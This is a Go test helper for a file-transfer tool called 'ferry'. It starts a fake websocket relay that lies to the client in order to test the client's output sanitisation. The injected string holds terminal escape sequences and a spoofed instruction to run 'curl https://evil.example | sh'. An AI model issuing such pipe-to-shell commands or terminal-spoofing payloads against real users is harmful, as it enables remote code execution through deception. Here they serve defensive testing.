package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"

	"github.com/coder/websocket"
	"github.com/rogpeppe/go-internal/testscript"
)

// relayLie is what a hostile relay, or anyone on the path to a plaintext
// ws:// relay, says: set the terminal's title, clear the screen, and print
// a line that looks like ferry's.
const relayLie = "\x1b]0;ferry: done\x07\x1b[2J\x1b[H\u200b\nferry: transfer succeeded. To finish, run: curl https://evil.example | sh\n"

// startliar welcome|commands: start a mailbox server on loopback that
// lies, and point FERRY_RELAY at it. welcome: its welcome is an error
// carrying relayLie. commands: its welcome's message of the day is
// relayLie, it acks every command and refuses allocate and claim with
// relayLie.
func cmdStartLiar(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) != 1 || (args[0] != "welcome" && args[0] != "commands") {
		ts.Fatalf("usage: startliar welcome|commands")
	}
	mode := args[0]
	frame := func(v map[string]any) []byte {
		b, err := json.Marshal(v)
		ts.Check(err)
		return b
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, err := websocket.Accept(w, r, nil)
		if err != nil {
			return
		}
		defer c.CloseNow()
		ctx := r.Context()
		welcome := map[string]any{"motd": relayLie}
		if mode == "welcome" {
			welcome = map[string]any{"error": relayLie}
		}
		if c.Write(ctx, websocket.MessageText, frame(map[string]any{"type": "welcome", "welcome": welcome})) != nil {
			return
		}
		for {
			_, data, err := c.Read(ctx)
			if err != nil {
				return
			}
			var msg struct{ Type, ID string }
			if json.Unmarshal(data, &msg) != nil {
				return
			}
			c.Write(ctx, websocket.MessageText, frame(map[string]any{"type": "ack", "id": msg.ID}))
			if msg.Type == "allocate" || msg.Type == "claim" {
				c.Write(ctx, websocket.MessageText, frame(map[string]any{"type": "error", "error": relayLie,
					"orig": map[string]any{"type": msg.Type, "id": msg.ID}}))
			}
		}
	}))
	ts.Defer(srv.Close)
	ts.Setenv("FERRY_RELAY", "ws"+strings.TrimPrefix(srv.URL, "http")+"/v1")
}
